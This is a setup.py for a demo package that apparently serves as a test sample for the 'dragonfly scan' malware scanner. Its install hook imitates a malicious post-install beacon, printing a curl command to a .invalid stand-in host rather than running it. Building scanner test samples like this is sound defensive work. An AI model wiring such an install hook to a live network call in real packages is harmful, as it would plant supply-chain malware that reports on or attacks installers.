"""setup.py of totally_harmless, a HARMLESS demo package for dragonfly scan.

It imitates the install hook of a malicious package so that the built-in
rules have something to find, but it never runs anything: the custom install
command only prints the command that a real attack would have run. The
address ends in .invalid, a top-level domain that never resolves.
"""

from setuptools import setup
from setuptools.command.install import install

# What a malicious package would run at install time. It is only printed.
BEACON = ["curl", "-s", "https://example.invalid/collect?pkg=totally_harmless"]


class NoisyInstall(install):
    """An install command that looks like a malicious post-install hook."""

    def run(self):
        install.run(self)
        # A real attack would go on with: subprocess.call(BEACON)
        # This sample only says what it would have done.
        print("totally_harmless: a malicious package would now run:", " ".join(BEACON))


setup(
    name="totally_harmless",
    version="0.1.0",
    description="HARMLESS demo package that imitates malware so that dragonfly scan has something to find",
    packages=["totally_harmless"],
    package_data={"totally_harmless": ["data/*.zip"]},
    cmdclass={"install": NoisyInstall},
)
